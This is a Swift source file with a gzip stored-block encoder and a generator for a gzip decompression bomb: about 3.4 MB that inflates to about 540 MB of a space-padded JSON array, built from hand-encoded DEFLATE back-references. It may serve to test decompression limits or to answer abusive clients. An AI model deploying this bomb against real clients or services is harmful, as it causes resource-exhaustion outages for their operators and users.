import CZlib

/// Wraps bytes as gzip (RFC 1952), in stored blocks of DEFLATE (RFC 1951, 3.2.4).
///
/// It makes nothing shorter, but a client has to unpack it.
enum Gzip {
  /// The header: identification, DEFLATE, no flags, no time, no extra flags, an unknown system.
  static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

  static func stored(_ bytes: [UInt8]) -> [UInt8] {
    var result = header
    let longest = Int(UInt16.max)
    for start in stride(from: 0, through: max(0, bytes.count - 1), by: longest) {
      let end = min(start + longest, bytes.count)
      result += block(bytes[start..<end], isLast: end == bytes.count)
    }
    let checksum = UInt32(crc32(0, bytes, UInt32(bytes.count)))
    return result + little(checksum) + little(UInt32(bytes.count))
  }

  /// - Precondition: `content` has no more than 65,535 bytes.
  static func block(_ content: some Collection<UInt8>, isLast: Bool) -> [UInt8] {
    let length = UInt16(content.count)
    return [isLast ? 1 : 0] + little(length) + little(~length) + content
  }

  static func little(_ value: some FixedWidthInteger) -> [UInt8] {
    withUnsafeBytes(of: value.littleEndian) { Array($0) }
  }
}

/// 3.4 MB of gzip that unpack to 540 MB: an empty JSON array with very much space inside.
enum GzipBomb {
  static let unpackedBytes = 2 + blocks * repeats * 258 + 3
  private static let blocks = 256
  private static let repeats = 8190

  /// A stored block that begins the array, the blocks that repeat its space, and one that ends it;
  /// then the checksum and the length.
  ///
  /// The checksum is written down, because the content is fixed: computing it would take seconds.
  static let pieces =
    [Gzip.header + Gzip.block("[ ".utf8, isLast: false)]
    + [[UInt8]](repeating: middle, count: blocks)
    + [
      Gzip.block(" ]\n".utf8, isLast: true) + Gzip.little(UInt32(0x840E_097B))
        + Gzip.little(UInt32(unpackedBytes))
    ]

  /// A block that repeats the last byte 8190 times 258 times (RFC 1951, 3.2.5 and 3.2.6).
  ///
  /// With the three bits of its header and the seven of its end it fills whole bytes, so it can be
  /// repeated as it is.
  private static let middle: [UInt8] = {
    // The code for length 258 and distance 1.
    let code: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0]
    let codes = repeatElement(code, count: repeats).joined()
    let bits = [0, 1, 0] + codes + [0, 0, 0, 0, 0, 0, 0]
    // DEFLATE fills a byte from its lowest bit on.
    return stride(from: 0, to: bits.count, by: 8).map { start in
      bits[start..<start + 8].reversed().reduce(0) { $0 << 1 | $1 }
    }
  }()
}
